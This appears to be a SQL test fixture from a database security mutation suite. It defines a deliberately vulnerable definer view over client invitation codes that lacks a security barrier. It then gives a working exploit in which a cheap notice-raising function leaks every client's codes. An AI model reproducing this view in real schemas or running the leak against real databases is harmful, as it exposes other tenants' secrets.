-- mutant: A definer view that filters by client but is no security barrier: a cheap filter of the caller runs first
-- base: flows
-- family: leaky-filter
-- leaks: the invitation codes of every client, in notices of the caller's own function
create view flows.my_invitations as
  select client_id, invitation_code, status from flows.invitations
  where client_id = (select flows.current_client_id());
grant select on flows.my_invitations to authenticated;

-- exploit as authenticated claims {"sub": "{{user_a}}", "role": "authenticated", "app_metadata": {"client_id": "{{a}}", "client_role": "member"}}
create function pg_temp.peek(seen text) returns boolean
language plpgsql immutable cost 0.0000001
as $$ begin raise notice 'seen: %', seen; return true; end $$;
set local enable_indexscan = off;
set local enable_bitmapscan = off;
do $$ begin perform from flows.my_invitations where pg_temp.peek(invitation_code); end $$;
